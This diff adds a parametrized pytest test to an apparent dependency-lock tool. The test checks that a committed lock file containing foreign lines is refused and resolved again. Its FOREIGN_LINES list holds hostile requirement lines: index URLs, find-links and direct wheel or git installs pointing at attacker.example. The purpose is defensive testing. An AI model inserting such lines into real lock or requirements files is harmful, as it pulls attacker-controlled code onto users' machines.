@@ -63,6 +63,40 @@ def test_a_lock_whose_header_matches_is_reused_without_resolving(index, tmp_path
     assert capsys.readouterr().err == ""
 
 
+# Lines a committed lock may not hold: each would make hosts fetch or run something the hashes
+# do not pin (an index, a URL, a local path, an editable install, another file, an option).
+FOREIGN_LINES = [
+    "--index-url http://attacker.example/simple",
+    "--extra-index-url https://attacker.example/simple",
+    "--find-links http://attacker.example/",
+    "--trusted-host attacker.example",
+    "evil @ https://attacker.example/evil-1.0-py3-none-any.whl",
+    "https://attacker.example/evil-1.0-py3-none-any.whl",
+    "-e git+https://attacker.example/evil.git#egg=evil",
+    "-r /etc/other.txt",
+    "evil>=1",
+    "evil==1.0 --hash=sha256:" + "a" * 64,  # hash on the pin's line: pip accepts it, uv never writes it
+    "    --hash=md5:" + "a" * 32,
+]
+
+
+@pytest.mark.parametrize("line", FOREIGN_LINES)
+def test_a_committed_lock_with_anything_but_pins_hashes_and_comments_is_refused_and_resolved_again(
+    index, tmp_path, capsys, line
+):
+    cluster = _spec(index, "gamma")
+    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
+    resolved = store.lock(cluster)
+    capsys.readouterr()
+    store.path.write_text(store.path.read_text() + line + "\n")
+    lock = store.lock(cluster)
+    assert lock is not None and resolved is not None and lock.pins() == resolved.pins()
+    assert locks.parse(store.path.read_text()) == lock and line not in store.path.read_text()
+    err = capsys.readouterr().err
+    assert f"line {len(resolved.text.splitlines()) + 1} " in err and "only name==version" in err, err
+    assert "resolving requirements into" in err
+
+
 def test_a_changed_requirement_resolves_the_lock_again(index, tmp_path, capsys):
     store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
     store.lock(_spec(index, "gamma"))
